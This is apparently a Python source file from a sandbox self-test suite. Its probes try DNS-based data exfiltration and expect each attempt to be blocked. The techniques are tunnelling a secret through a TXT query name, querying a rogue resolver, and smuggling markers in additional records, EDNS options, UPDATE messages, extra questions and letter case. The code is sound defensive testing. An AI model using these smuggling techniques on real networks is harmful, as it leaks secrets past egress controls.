"""The DNS probes: a foreign resolver, a secret in a query name (tunnelling), data hidden beside an
allowed name, and record types a wildcard rule must not forward.

dns_smuggling hides data in a query's other parts (an additional record, an EDNS option, an
UPDATE, a second question, the letter case of an allowed name); the world's DNS canary logs all
of them (selftest/canary/), so verify finds the marker there, or the mixed case (markers.case_name).

wildcard_dns_types asks for TXT, NULL and MX under verify's `*.wild.verify.test` allow (refused by
the sandbox's resolver: the DNS canary must never see the name).
"""

from __future__ import annotations

import struct

from selftest import markers
from selftest.probes.core import Blocked, Ctx, Result, Unsupported, attempt, combine, probe
from selftest.probes.dnswire import (
    CLASS_IN,
    OPT_CODE,
    QTYPE_A,
    QTYPE_MX,
    QTYPE_NULL,
    QTYPE_OPT,
    QTYPE_SOA,
    QTYPE_TXT,
    RCODE_REFUSED,
    build_message,
    build_query,
    dns_exchange,
    dns_verdict,
    rr,
    send_message,
    system_resolver,
    txt,
)


@probe("network", "dns_udp_rogue", "blocked")
def dns_udp_rogue(c: Ctx) -> Result:
    """DNS over UDP straight to a foreign resolver: the query name itself exfiltrates data."""
    return dns_verdict(dns_exchange(c.spec.rogue_resolver, c.dns_name()))


@probe("network", "dns_tcp_rogue", "blocked")
def dns_tcp_rogue(c: Ctx) -> Result:
    """DNS over TCP straight to a foreign resolver."""
    return dns_verdict(dns_exchange(c.spec.rogue_resolver, c.dns_name(), tcp=True))


@probe("network", "dns_txt_exfil", "blocked")
def dns_txt_exfil(c: Ctx) -> Result:
    """A secret encoded in a TXT query to the sandbox's own resolver (DNS tunnelling).

    The name is `<hex of secret_marker>-<ctx>.<probe>-<ctx>.<exfil_domain>`: the secret leads, and
    the probe's usual marker label follows so canary logs attribute the query like any other.
    """
    name = markers.exfil_name(c.spec.secret_marker, c.context, c.dns_name())
    return dns_verdict(dns_exchange(system_resolver(), name, QTYPE_TXT))


def _smuggle(server: str, wire: bytes, accepted: str = "") -> Result:
    """The carrier is stripped or refused by a sound resolver whatever it answers (verify reads the
    canary for the marker); only `accepted` (a message it must refuse, answered NOERROR) is a bypass here."""
    try:
        reply = send_message(server, wire)
    except TimeoutError as e:
        raise Blocked(str(e)) from e
    detail = f"rcode {reply.rcode_text}, {len(reply.answers)} answer(s)"
    if accepted and reply.rcode == 0:
        return "permitted", f"{detail}: {accepted}"
    return "blocked", detail


@probe("network", "dns_smuggling", "blocked")
def dns_smuggling(c: Ctx) -> Result:
    """Data hidden beside an allowed DNS name: an additional record, an EDNS option, an UPDATE, a second question, letter case."""
    server, host, rd = system_resolver(), c.spec.allowed_host, 0x0100
    control = send_message(server, build_query(host))
    if c.spec.allowed_ip not in [r.data for r in control.answers]:
        raise Unsupported(
            f"the control (A {host}) was not answered from the canary: rcode {control.rcode_text}, "
            f"{[r.data for r in control.answers]}: cannot tell"
        )
    smuggled = c.dns_name()  # <probe>-<mark>.<exfil domain>: what the canary log is searched for
    q = [(host, QTYPE_A)]
    additional = build_message(rd, q, ar=rr(smuggled, QTYPE_TXT, CLASS_IN, 0, txt(c.marker)), counts=(0, 1))
    option = struct.pack("!HH", OPT_CODE, len(c.marker)) + c.marker
    edns = build_message(rd, q, ar=rr(".", QTYPE_OPT, 1232, 0, option), counts=(0, 1))
    update = build_message(
        5 << 11,
        [(host, QTYPE_SOA)],
        counts=(1, 0),
        ns=rr(f"{c.label}.{host}", QTYPE_TXT, CLASS_IN, 60, txt(c.marker)),
    )
    two = build_message(rd, [*q, (smuggled, QTYPE_A)])
    case = build_query(markers.case_name(host, c.mark))
    return combine(
        [
            ("additional TXT", attempt(_smuggle, server, additional)),
            ("EDNS option", attempt(_smuggle, server, edns)),
            ("UPDATE", attempt(_smuggle, server, update, "UPDATE accepted")),
            ("two questions", attempt(_smuggle, server, two)),
            ("mixed case", attempt(_smuggle, server, case)),
        ],
        need="any",
    )


WILD_TYPES = (("TXT", QTYPE_TXT), ("NULL", QTYPE_NULL), ("MX", QTYPE_MX))


def _typed_query(server: str, name: str, qtype: int) -> Result:
    """REFUSED is the sandbox's resolver saying no; any other answer means the query went upstream."""
    try:
        reply = send_message(server, build_query(name, qtype))
    except TimeoutError as e:
        raise Blocked(str(e)) from e
    detail = f"rcode {reply.rcode_text}, {len(reply.answers)} answer(s)"
    return ("blocked" if reply.rcode == RCODE_REFUSED else "permitted"), detail


@probe("network", "wildcard_dns_types", "blocked")
def wildcard_dns_types(c: Ctx) -> Result:
    """TXT, NULL and MX queries for a name allowed only by a wildcard rule: a DNS tunnel to whoever runs that domain."""
    server, wild = system_resolver(), c.spec.wild_domain
    control = markers.wild_control_name(c.label, wild)
    try:
        reply = send_message(server, build_query(control))
    except TimeoutError as e:
        raise Unsupported(f"the control (A {control}) got no answer: {e}: cannot tell") from e
    if c.spec.wild_ip not in [r.data for r in reply.answers]:
        raise Unsupported(
            f"the control (A {control}) was not answered from the canary: rcode {reply.rcode_text}, "
            f"{[r.data for r in reply.answers]}: cannot tell"
        )
    name = f"{c.label}.{wild}"  # what the canary log is searched for
    return combine([(t, attempt(_typed_query, server, name, q)) for t, q in WILD_TYPES], need="any")
